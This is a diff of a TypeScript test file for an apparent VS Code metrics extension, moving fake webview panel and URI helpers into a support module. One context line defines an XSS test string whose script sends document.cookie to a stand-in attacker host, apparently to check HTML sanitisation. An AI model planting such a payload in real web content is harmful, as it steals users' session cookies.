@@ -6,7 +6,6 @@ import assert from 'node:assert/strict';
 import * as fs from 'node:fs';
 import * as os from 'node:os';
 import * as path from 'node:path';
-import type * as vscode from 'vscode';
 import { AlertmanagerClient } from '../../src/clients/alertmanagerClient';
 import { BackendClients, remoteBackends } from '../../src/clients/backendClients';
 import { ComposeCliRunner, ComposeError, detectComposeCli, type ComposeProjectRef } from '../../src/clients/composeCli';
@@ -39,6 +38,7 @@ import { MetricsPanels } from '../../src/webviews/metricsPanel';
 import { FakeLoki } from '../fakes/lokiFake';
 import { MarkdownString } from './support/vscodeShim';
 import { sample, SampleServer } from './support/sampleServer';
+import { fakePanel, fakeUri } from './support/fakePanel';
 
 const HTML = '<img src=x onerror="alert(1)"><script>fetch("https://evil.invalid/"+document.cookie)</script>';
 const KB100 = 'x'.repeat(100 * 1024);
@@ -559,33 +559,6 @@ function reload(state: InMemoryMemento): InMemoryMemento {
   const next = new InMemoryMemento();
   void next.update(REMOTE_WARNED_KEY, state.get(REMOTE_WARNED_KEY));
   return next;
-}
-
-function fakeUri(p: string): vscode.Uri {
-  const uri = { scheme: 'file', path: p, with: (c: { path?: string }) => fakeUri(c.path ?? p), toString: () => `file://${p}` };
-  return uri as unknown as vscode.Uri;
-}
-
-/** A WebviewPanel as PanelHost uses it: records what the extension posts, lets the test post as the webview. */
-function fakePanel(): { panel: vscode.WebviewPanel; posted: unknown[]; receive: (m: unknown) => Promise<unknown> } {
-  const posted: unknown[] = [];
-  let listener: (m: unknown) => unknown = () => undefined;
-  const webview = {
-    cspSource: 'vscode-resource:',
-    options: {},
-    html: '',
-    asWebviewUri: (u: vscode.Uri) => u,
-    onDidReceiveMessage: (l: (m: unknown) => unknown) => {
-      listener = l;
-      return { dispose: () => undefined };
-    },
-    postMessage: async (m: unknown) => {
-      posted.push(m);
-      return true;
-    },
-  };
-  const panel = { title: 'Realm Metrics', webview, onDidDispose: () => ({ dispose: () => undefined }), dispose: () => undefined, reveal: () => undefined };
-  return { panel: panel as unknown as vscode.WebviewPanel, posted, receive: async (m) => listener(m) };
 }
 
 async function waitUntil(check: () => boolean, what: string, timeoutMs = 10_000): Promise<void> {
